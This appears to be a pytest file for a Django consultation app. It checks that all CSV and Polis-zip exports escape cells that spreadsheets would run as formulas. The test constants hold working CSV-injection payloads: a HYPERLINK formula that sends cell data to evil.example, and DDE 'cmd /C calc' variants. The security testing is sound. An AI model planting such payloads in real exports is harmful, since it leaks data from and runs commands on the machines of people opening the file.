"""Issue 21 part 2: no CSV innspill writes carries a cell a spreadsheet runs as a formula. Every
export is read back: a text cell never starts with =, +, -, @, tab or CR (it gets a ' in front),
and the attacker's text is there, quoted, not lost."""

import csv
import io
import json
import zipfile

import pytest

from innspill import csvsafe
from innspill.web.analysis import jobs
from innspill.web.consultations.models import Comment
from innspill.web.live import services as live
from innspill.web.live.models import LiveSession

from .conftest import answer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, CMD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(text: str, expect: tuple[str, ...] = (), name: str = "") -> None:
    rows = _rows(text)
    cells = [cell for row in rows for cell in row]
    bad = [cell for cell in cells if cell[:1] in csvsafe.TRIGGERS and not _is_number(cell)]
    assert not bad, f"{name}: formula cells {bad!r}"
    for payload in expect:
        assert any(cell.startswith("'" + payload[:12]) for cell in cells), f"{name}: {payload!r} missing"


def test_safe_cell_follows_owasp_and_round_trips():
    for p in PAYLOADS:
        assert csvsafe.safe_cell(p) == "'" + p and csvsafe.unescape_cell(csvsafe.safe_cell(p)) == p
    for v in ["Ja, helt klart.", "", "a=b", "'quoted", "'=x", "''-y"]:
        assert csvsafe.unescape_cell(csvsafe.safe_cell(v)) == v
    assert csvsafe.safe_cell("'=x") == "''=x"
    assert csvsafe.safe_cell(-1) == -1 and csvsafe.safe_cell(0.5) == 0.5 and csvsafe.safe_cell(None) is None


def _attacked_consultation(make_consultation, client_for):
    cons = make_consultation()
    anon = client_for()
    answer(anon, cons.slug, name=CMD, q1=HYPERLINK + " Nei, det bør ikke enkeltpersoner gjøre.",
           q2="Ja, helt klart. " + CMD)
    answer(anon, cons.slug, name="-Per", comment="@SUM(1+1) 1. Det er greit.\n\n2. Nei, det er å gå for langt.")
    answer(anon, cons.slug, comment="+1 Ja.")
    org = client_for(cons.created_by)
    org.post(f"/org/c/{cons.slug}/moderate/", {"ids": list(Comment.objects.values_list("id", flat=True)),
                                                "action": "approve", "note": HYPERLINK})
    jobs.enqueue(cons)
    jobs.run_one()
    return cons, org


def test_every_consultation_csv_export_is_neutralised(make_consultation, client_for):
    cons, org = _attacked_consultation(make_consultation, client_for)
    base = f"/org/c/{cons.slug}"
    comments = org.get(f"{base}/export/comments.csv").content.decode()
    assert_safe(comments, (HYPERLINK, CMD, "+1 Ja.", "@SUM(1+1)", "-Per"), "comments.csv")
    answers = org.get(f"{base}/export/answers.csv").content.decode()
    assert_safe(answers, (HYPERLINK,), "answers.csv")
    modlog = org.get(f"{base}/moderate/log/?format=csv").content.decode()
    assert_safe(modlog, (HYPERLINK,), "modlog.csv")
    r = org.get(f"{base}/brief.csv")
    if r.status_code == 404:
        pytest.skip("the brief (innspill.report) is not installed")
    assert_safe(r.content.decode(), (), "brief.csv")


def test_brief_csv_writer_is_neutralised():
    from innspill.report.csvout import to_csv
    from innspill.report.i18n import Text

    brief = {"questions": [{"id": "q1", "number": 1}], "duplicates": [], "guide": {"count_campaigns": "once"},
             "answers": [{"comment_id": "c1", "question_id": "q1", "stance": "against", "confidence": 0.9,
                          "evidence": CMD, "evidence_withheld": False, "evidence_masked": False,
                          "theme_id": "t1", "theme_other": False, "theme": "-" + HYPERLINK}]}
    assert_safe(to_csv(brief, Text("nb")), (CMD, "-" + HYPERLINK), "brief.csv")


def test_live_csv_and_polis_zip_are_neutralised(make_consultation, client_for, tmp_path):
    from innspill.votes.polis import read_polis

    cons = make_consultation()
    s = live.start_session(cons, cons.created_by, language="nb", title=HYPERLINK)
    org = client_for(cons.created_by)
    base = f"/org/c/{cons.slug}/live/{s.pk}"
    for p in PAYLOADS[:5]:
        assert org.post(base + "/statement", {"text": p, "kind": "statement"}).status_code == 302
    s.refresh_from_db()
    s.state = LiveSession.LIVE
    s.current = s.visible_statements().first()
    s.save()
    voter = client_for()
    voter.get(f"/j/{s.code}/")
    for st in s.visible_statements():
        s.current = st
        s.save()
        live.touch(s.pk, now=True)
        voter.post(f"/j/{s.code}/vote", json.dumps({"statement": st.pk, "vote": -1}), content_type="application/json")
    texts = tuple(" ".join(p.split()) for p in PAYLOADS[:5])
    assert_safe(org.get(base + "/export.csv").content.decode("utf-8"), texts, "live export.csv")
    r = org.get(base + "/export.zip")
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        for name in z.namelist():
            assert_safe(z.read(name).decode("utf-8"), texts if name.endswith("/comments.csv") else
                        (HYPERLINK,) if name.endswith("/summary.csv") else (), name)
        z.extractall(tmp_path)
    back = read_polis(next(p.parent for p in tmp_path.rglob("comments.csv")))
    assert set(texts) <= {st["text"] for st in back["statements"]}  # read back as written
    assert back["session"]["title"] == HYPERLINK
    assert {v["vote"] for v in back["votes"]} == {-1}  # numbers stay numbers
